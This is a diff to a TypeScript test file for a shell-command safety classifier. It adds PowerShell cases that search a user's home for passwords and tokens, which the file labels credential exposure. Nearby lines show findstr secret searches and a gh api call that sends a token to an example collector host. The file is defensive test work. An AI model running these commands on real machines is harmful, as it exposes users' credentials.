@@ -1190,6 +1190,7 @@ export const EVASION_CASES: readonly CommandCase[] = [
   ["export GOWORK=../other/go.work; go list -m all", "review"],
   // review56: findstr /s over a home for other text reads every file there, as grep -r hello ~.
   ["findstr /s TODO C:\\Users\\me\\*", "review"],
+  ["Get-ChildItem ~ | Select-String TODO", "review"],
   // review53: gh api uses an endpoint with `://` as the whole URL, on any host (and sends
   // GH_ENTERPRISE_TOKEN to a host that is not github.com), as -R HOST/OWNER/REPO does.
   ["gh api https://collector.example.test/x", "review"],
@@ -1242,6 +1243,10 @@ export const EVASION_CASES: readonly CommandCase[] = [
   ['cd ~ && findstr /spin /c:"api_key" *.*', "dangerous", "credential_exposure"],
   ["findstr /s /d:%USERPROFILE% token *", "dangerous", "credential_exposure"],
   ["findstr /s /g:pats.txt C:\\*", "dangerous", "credential_exposure"],
+  // review56: without -Recurse, the files at the top of a home are piped to Select-String; on
+  // Windows a leading dot hides nothing, so ~\.git-credentials and ~\_netrc are among them.
+  ["Get-ChildItem ~ | Select-String password", "dangerous", "credential_exposure"],
+  ["gci $HOME | sls token", "dangerous", "credential_exposure"],
   // review53: GIT_TEST_FSMONITOR is read as core.fsmonitor, a hook git status and diff run with
   // sh -c (git 2.39, tested with a marker file); Git for Windows' GIT_REDIRECT_STDOUT/STDERR
   // write git's output to the file they name.
@@ -1771,6 +1776,8 @@ export const NEGATIVE_CASES: readonly CommandCase[] = [
   ["findstr /s TODO src\\*.ts", "read_only"],
   ["findstr /i token C:\\Users\\me\\*", "read_only"],
   ["findstr /s password *.ts", "read_only"],
+  ["Get-ChildItem src | Select-String password", "read_only"],
+  ["Get-ChildItem ~", "read_only"],
   ["kubectl get pods --chunk-size=50", "read_only"],
   ['for f in a ~/.ssh/id_rsa; do ls -la "$f"; done', "read_only"],
   ["GIT_OPTIONAL_LOCKS=0 git status", "read_only"],
